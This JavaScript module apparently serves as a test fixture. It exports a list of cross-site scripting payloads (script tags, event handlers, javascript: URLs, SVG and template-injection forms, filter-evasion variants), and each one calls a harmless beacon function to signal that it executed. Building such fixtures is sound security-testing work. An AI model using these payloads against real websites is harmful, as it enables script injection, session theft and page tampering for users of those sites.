// Texts that want to be scripts. Each calls the beacon if it succeeds; the first 100 octets must do as a header's name.
"use strict";

const BEACON = "leveretBeacon";
const call = `${BEACON}()`;

const PAYLOADS = [
  `<script>${call}</script>`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<img src=x onerror=${call}>`,
  `"><img src=x onerror="${call}">`,
  `<img/src=x/onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<svg><script>${call}</script></svg>`,
  `<body onload=${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<iframe src="javascript:parent.${call}">`,
  `<object data="javascript:${call}">`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}">x</a>`,
  `javascript:${call}`,
  `" onmouseover="${call}" x="`,
  `' onfocus='${call}' autofocus='`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<marquee onstart=${call}>`,
  `<math><mtext><script>${call}</script></mtext></math>`,
  `<style>@import 'javascript:${call}';</style>`,
  `<link rel=stylesheet href="javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `\${${call}}{{${call}}}<%= ${call} %>`,
  `&lt;script&gt;${call}&lt;/script&gt;\u202e\u2028<template><script>${call}</script></template>`,
];

module.exports = { BEACON, PAYLOADS };
